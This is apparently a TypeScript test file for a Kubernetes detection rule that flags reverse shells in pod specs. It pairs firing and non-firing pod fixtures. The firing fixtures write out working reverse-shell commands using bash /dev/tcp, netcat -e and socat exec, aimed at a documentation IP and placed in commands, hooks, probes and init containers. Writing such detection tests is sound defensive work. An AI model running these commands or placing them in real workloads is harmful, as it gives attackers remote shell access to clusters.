import { reverseShellInSpec } from '../../../../shared/detection/rules/reverse-shell-in-spec.ts';
import { ownedByReplicaSet, pod, podSpec } from '../../../fixtures/workloads.ts';
import { ruleCases } from '../cases.ts';

const running = (...command: string[]): Record<string, unknown> => podSpec({ command });
const SHELL = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'];
const BASE = {
  verb: 'create',
  resource: 'pods',
  namespace: 'shop',
  name: 'cart-7d9f',
  request: pod(running(...SHELL)),
};

describe('rule reverse-shell-in-spec', () => {
  ruleCases(reverseShellInSpec, BASE, {
    fires: [
      [
        'in its arguments',
        { request: pod(podSpec({ command: ['nc'], args: ['203.0.113.7', '4444', '-e', '/bin/sh'] })) },
      ],
      [
        'in the arguments of an image of netcat',
        { request: pod(podSpec({ image: 'someone/ncat:7', args: ['203.0.113.7', '4444', '-e', '/bin/bash'] })) },
      ],
      [
        'in the arguments of an image of socat',
        { request: pod(podSpec({ image: 'someone/socat', args: ['tcp:203.0.113.7:4444', 'exec:/bin/sh,pty'] })) },
      ],
      ['when it starts', { request: pod(podSpec({ lifecycle: { postStart: { exec: { command: SHELL } } } })) }],
      ['as a probe', { request: pod(podSpec({ livenessProbe: { exec: { command: SHELL } } })) }],
      ['in an init container', { request: pod(podSpec({}, { initContainers: [{ name: 'i', command: SHELL }] })) }],
      [
        'made by a controller: what it runs speaks for itself',
        {
          principal: 'system:serviceaccount:kube-system:job-controller',
          request: pod(running(...SHELL), ownedByReplicaSet('Job')),
        },
      ],
      [
        'behind something that looks',
        { request: pod(running('bash', '-c', 'ls|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')) },
      ],
      [
        'a shell that reads from a connection',
        { request: pod(running('bash', '-c', 'bash </dev/tcp/203.0.113.7/4444')) },
      ],
      ['refused', { code: 7 }, { severity: 'high', confidence: 0.75 }],
      ['failed', { code: 3 }, { severity: 'high', confidence: 0.75 }],
    ],
    misses: [
      [
        'who waits for a database',
        { request: pod(running('sh', '-c', 'until (echo > /dev/tcp/db/5432); do sleep 1; done')) },
      ],
      ['who looks for one', { request: pod(running('sh', '-c', 'ps aux|grep "nc -e /bin/sh"')) }],
      ['who probes a port', { request: pod(running('nc', '-z', 'db', '5432')) }],
      ['an image of netcat that probes', { request: pod(podSpec({ image: 'a/netcat', args: ['-z', 'db', '5432'] })) }],
      [
        'an image of socat that forwards',
        { request: pod(podSpec({ image: 'a/socat', args: ['tcp-listen:5432,fork', 'tcp:10.0.0.4:5432'] })) },
      ],
      [
        'an image of netcat with another program',
        { request: pod(podSpec({ image: 'a/ncat', command: ['echo'], args: ['-e', '/bin/sh'] })) },
      ],
      ['a program of its own', { request: pod(running('/app/server', '--listen', ':8080')) }],
      ['a variable', { request: pod(podSpec({ env: [{ name: 'DOC', value: SHELL.join(' ') }] })) }],
    ],
  });
});
